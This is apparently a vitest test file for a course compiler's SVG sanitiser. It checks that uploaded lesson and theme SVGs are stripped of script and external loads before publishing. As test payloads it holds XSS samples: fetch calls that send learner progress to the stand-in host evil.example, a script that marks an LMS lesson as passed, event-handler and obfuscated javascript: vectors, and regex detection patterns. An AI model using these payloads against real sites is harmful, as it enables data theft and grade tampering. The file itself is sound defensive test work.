import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { compileCourse, type CompiledCourse } from '../../src/compiler/compileCourse.ts';
import { sanitiseSvg } from '../../src/compiler/lesson/svgSanitiser.ts';
import { defaultThemeFiles, fixture, useTempDir, writeTree } from './support/tempTree.ts';

/**
 * Issue 11: an SVG from a lesson or theme is served from the course's origin; opened as a document
 * (a link, "open image in new tab") its script ran with the learner's progress and the LMS's API.
 */
const repo = fileURLToPath(new URL('../../', import.meta.url));
const themeFiles = defaultThemeFiles;

const open = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">';
const svg = (...lines: string[]) => [open, ...lines, '</svg>'].join('\n');

/** What must never be in a published SVG. */
function assertInert(text: string): void {
  expect(text).not.toMatch(/<script/i);
  expect(text).not.toMatch(/\son[a-z]+\s*=/i);
  expect(text).not.toMatch(/foreignObject/i);
  expect(text).not.toMatch(/javascript:/i);
  expect(text).not.toMatch(/href="(?!#|data:image\/png)/i);
  expect(text).not.toMatch(/url\((?!#)/i);
  expect(text).not.toMatch(/@import/i);
  expect(text).not.toMatch(/evil\.example/i);
}

/** Each payload sits on line 2 of its SVG; the column is where the removed thing starts. */
const payloads: [string, string, number][] = [
  ['script element', '<script>fetch("https://evil.example/?"+localStorage.progress)</script>', 1],
  ['script with xlink:href', '<script xlink:href="https://evil.example/x.js"/>', 1],
  ['script in CDATA', '<script><![CDATA[ parent.API.LMSSetValue("cmi.core.lesson_status","passed") ]]></script>', 1],
  ['onload on an element', '<rect width="10" height="10" onload="alert(1)"/>', 30],
  ['onclick', '<circle r="4" onclick="alert(1)"/>', 15],
  ['onmouseover in upper case', '<g ONMOUSEOVER="alert(1)"><rect width="1" height="1"/></g>', 4],
  ['foreignObject with HTML', '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></div></foreignObject>', 1],
  ['javascript: link on <a>', '<a href="javascript:alert(1)"><text>x</text></a>', 4],
  ['javascript: xlink:href on <a>', '<a xlink:href="javascript:alert(1)"><text>x</text></a>', 4],
  ['link to another host', '<a href="https://evil.example/"><text>x</text></a>', 4],
  ['relative link on <a>', '<a href="../../index.html"><text>x</text></a>', 4],
  ['javascript: hidden by a tab', '<a href="jav&#x09;ascript:alert(1)"><text>x</text></a>', 4],
  ['use of an external file', '<use href="https://evil.example/sprite.svg#icon"/>', 6],
  ['use of a data: SVG', '<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>', 6],
  ['image from another host', '<image href="https://evil.example/track.png" width="1" height="1"/>', 8],
  ['url() to another host in fill', '<rect width="1" height="1" fill="url(https://evil.example/p.svg#g)"/>', 28],
  ['url() in a style attribute', '<rect style="fill: url(https://evil.example/p.svg#g)"/>', 7],
  ['@import in <style>', '<style>@import url("https://evil.example/x.css");</style>', 1],
  ['url() in <style>', '<style>rect { fill: url(//evil.example/p.svg#g) }</style>', 1],
  ['animate setting href', '<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>', 4],
  ['set changing an event handler', '<set attributeName="onclick" to="alert(1)"/>', 1],
  ['iframe', '<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/>', 1],
];

describe('sanitiseSvg removes what could run script or load from elsewhere, and says where', () => {
  it.each(payloads)('%s', async (_name, payload, col) => {
    const result = await sanitiseSvg(svg(payload, '<rect width="10" height="10" fill="#1d4e89"/>'));
    if (!result.ok) throw new Error(result.problem);
    assertInert(result.text);
    expect(result.removed.length, JSON.stringify(result.removed)).toBeGreaterThan(0);
    expect(result.removed[0]).toMatchObject({ line: 2, col });
    // What is harmless stays.
    expect(result.text).toContain('viewBox="0 0 10 10"');
    expect(result.text).toContain('fill="#1d4e89"');
  });

  it('keeps a clean SVG as it is drawn: case-sensitive names, gradients, fragments, title, embedded PNG', async () => {
    const clean = svg(
      '<title>A shield</title>',
      '<defs><linearGradient id="g" gradientUnits="userSpaceOnUse"><stop offset="0" stop-color="#fff"/></linearGradient>',
      '<clipPath id="c"><path d="M0 0h5v5z"/></clipPath><symbol id="s" viewBox="0 0 1 1"><circle r="1"/></symbol></defs>',
      '<g clip-path="url(#c)" role="img" aria-label="Shield"><rect width="10" height="10" fill="url(#g)"/></g>',
      '<use href="#s"/><use xlink:href="#s"/><a href="#s"><text>x</text></a>',
      '<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>',
      '<style>.a { fill: url(#g) }</style>',
      '<filter id="f"><feGaussianBlur stdDeviation="1"/></filter>',
    );
    const result = await sanitiseSvg(clean);
    if (!result.ok) throw new Error(result.problem);
    expect(result.removed).toEqual([]);
    for (const kept of [
      'viewBox=',
      'linearGradient',
      'gradientUnits=',
      'clipPath',
      'clip-path="url(#c)"',
      'role="img"',
      'aria-label=',
      '<use href="#s"/>',
      'xlink:href="#s"',
      '<title>A shield</title>',
      'data:image/png',
      'feGaussianBlur',
      'stdDeviation',
    ]) {
      expect(result.text).toContain(kept);
    }
    expect((await sanitiseSvg(clean)).ok && ((await sanitiseSvg(clean)) as { text: string }).text).toBe(result.text);
  });

  it('takes SVGs as Illustrator and Inkscape save them without a warning (editor metadata goes silently)', async () => {
    const illustrator = [
      '<?xml version="1.0" encoding="utf-8"?>',
      '<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In -->',
      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
      '<svg version="1.1" id="Ebene_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" style="enable-background:new 0 0 100 100;" xml:space="preserve">',
      '<style type="text/css">.st0{fill:#1D4E89;}</style>',
      '<g><rect x="10" y="10" class="st0" width="80" height="80"/><text class="st0" style="font-family:\'Arial\'">Grüße &amp; Co</text></g>',
      '</svg>',
    ].join('\n');
    const inkscape = [
      '<svg viewBox="0 0 210 297" inkscape:version="1.2" sodipodi:docname="x.svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"',
      '  xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/2000/svg"',
      '  xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#" xmlns:dc="http://purl.org/dc/elements/1.1/">',
      '<sodipodi:namedview id="n" pagecolor="#ffffff" inkscape:zoom="0.5"/>',
      '<metadata><rdf:RDF><cc:Work rdf:about=""><dc:title>x</dc:title></cc:Work></rdf:RDF></metadata>',
      '<g inkscape:label="Ebene 1" inkscape:groupmode="layer" id="layer1"><rect style="fill:#1d4e89" width="50" height="50"/></g>',
      '</svg>',
    ].join('\n');
    for (const source of [illustrator, inkscape]) {
      const result = await sanitiseSvg(source);
      if (!result.ok) throw new Error(result.problem);
      expect(result.removed).toEqual([]);
      expect(result.text).toContain('viewBox=');
    }
    const kept = (await sanitiseSvg(illustrator)) as { text: string };
    expect(kept.text).toContain('.st0{fill:#1D4E89;}');
    expect(kept.text).toContain('Grüße &amp; Co');
  });

  it('refuses what is no SVG', async () => {
    expect(await sanitiseSvg('<svg xmlns="http://www.w3.org/2000/svg">\n<rect></svg>')).toMatchObject({ ok: false, at: { line: 2 } });
    expect(await sanitiseSvg('<html><body onload="x()"/></html>')).toMatchObject({ ok: false });
    expect(await sanitiseSvg('<svg><script>alert(1)</script></svg>')).toMatchObject({ ok: false });
  });

  it('finds nothing to remove in the SVGs of this repository', async () => {
    const files = ['lessons', 'themes'].flatMap((dir) => readdirRecursive(join(repo, dir)).filter((file) => file.endsWith('.svg')));
    expect(files.length).toBeGreaterThan(10);
    for (const file of files) {
      const source = readFileSync(file, 'utf8');
      const result = await sanitiseSvg(source);
      if (!result.ok) throw new Error(`${file}: ${result.problem}`);
      expect(result.removed, file).toEqual([]);
      expect(result.text, file).toContain('viewBox=');
      // Only comments may go: every element of the original stays.
      const elements = (text: string) => text.replace(/<!--[\s\S]*?-->/g, '').match(/<[A-Za-z][^\s/>]*/g)?.length;
      expect(elements(result.text), file).toBe(elements(source));
    }
  });
});

function readdirRecursive(dir: string): string[] {
  return readdirSync(dir, { recursive: true, encoding: 'utf8' }).map((name) => join(dir, name));
}

describe('compileCourse publishes lesson and theme SVGs only as sanitised', () => {
  const tmp = useTempDir();
  const compile = () => compileCourse({ lessonsDir: join(tmp.path, 'lessons'), themeDir: join(tmp.path, 'theme'), cwd: tmp.path });
  const evil = svg(
    '<script>fetch("https://evil.example/?"+localStorage.getItem("wachsam"));parent.API.LMSSetValue("cmi.core.lesson_status","passed")</script>',
    '<rect width="10" height="10" onload="alert(1)"/>',
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>',
    '<use href="https://evil.example/x.svg#a"/>',
  );
  const published = (result: CompiledCourse, name: string) => {
    const file = result.files.find((candidate) => candidate.fileName === name);
    expect(file, name).toBeDefined();
    expect('text' in file!.source, name).toBe(true);
    return (file!.source as { text: string }).text;
  };

  it('a lesson image and the theme logo and icon: warnings at the SVG, inert files in the outputs', async () => {
    const lesson = (await fixture('valid/image-with-alt.md')).replace('Look at this mail:', 'Look at this mail, [full size](images/phishing-mail.svg):');
    await writeTree(tmp.path, {
      ...themeFiles,
      'theme/logo.svg': evil,
      'theme/icon.svg': evil,
      'lessons/02-email/de.md': lesson,
      'lessons/02-email/en.md': lesson,
      'lessons/02-email/images/phishing-mail.svg': evil,
    });
    const result = await compile();
    const warnings = result.diagnostics.map((d) => `${d.file}:${d.line}:${d.col} ${d.severity} ${d.code}`);
    for (const file of ['lessons/02-email/images/phishing-mail.svg', 'theme/logo.svg', 'theme/icon.svg']) {
      expect(warnings).toEqual(
        expect.arrayContaining([`${file}:2:1 warning A007`, `${file}:3:30 warning A007`, `${file}:4:1 warning A007`, `${file}:5:6 warning A007`]),
      );
    }
    expect(result.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    expect(result.diagnostics.find((d) => d.code === 'A007')!.message).toContain('<script>');
    for (const name of ['content/02-email/images/phishing-mail.svg', 'brand/logo.svg', 'brand/icon.svg']) assertInert(published(result, name));
    // No SVG is copied as it is, from any folder.
    expect(result.files.filter((file) => file.fileName.endsWith('.svg') && 'copyFrom' in file.source)).toEqual([]);
    // A link to the SVG downloads it rather than opening it as a page of the course.
    for (const content of result.contents) {
      expect(content.pages[0]!.html).toContain('<a href="images/phishing-mail.svg" download="phishing-mail.svg">full size</a>');
    }
    // Deterministic: the same sources give the same bytes.
    const again = await compile();
    expect(again.files.map((file) => ('text' in file.source ? file.source.text : file.source.copyFrom))).toEqual(
      result.files.map((file) => ('text' in file.source ? file.source.text : file.source.copyFrom)),
    );
  });

  it('an SVG that cannot be parsed is an error (A008) at the file, and nothing is built', async () => {
    const lesson = await fixture('valid/image-with-alt.md');
    await writeTree(tmp.path, {
      ...themeFiles,
      'lessons/02-email/en.md': lesson,
      'lessons/02-email/images/phishing-mail.svg': `${open}\n<script>alert(1)</rect>\n</svg>`,
    });
    const result = await compile();
    expect(result.diagnostics.filter((d) => d.severity === 'error').map((d) => [d.file, d.line, d.code])).toEqual([
      ['lessons/02-email/images/phishing-mail.svg', 2, 'A008'],
    ]);
    expect(result.course).toBeUndefined();
    expect(result.files).toEqual([]);
  });

  it('the themes and lessons of this repository compile with no A007 warning', async () => {
    for (const theme of ['themes/default', 'themes/stadt-musterhausen']) {
      const result = await compileCourse({ lessonsDir: join(repo, 'lessons'), themeDir: join(repo, theme), cwd: repo });
      expect(
        result.diagnostics.filter((d) => d.code.startsWith('A') || d.severity === 'error'),
        theme,
      ).toEqual([]);
      const svgs = result.files.filter((file) => file.fileName.endsWith('.svg'));
      expect(svgs.length, theme).toBeGreaterThan(3);
      for (const file of svgs) expect((file.source as { text: string }).text, file.fileName).toContain('viewBox=');
    }
  });
});
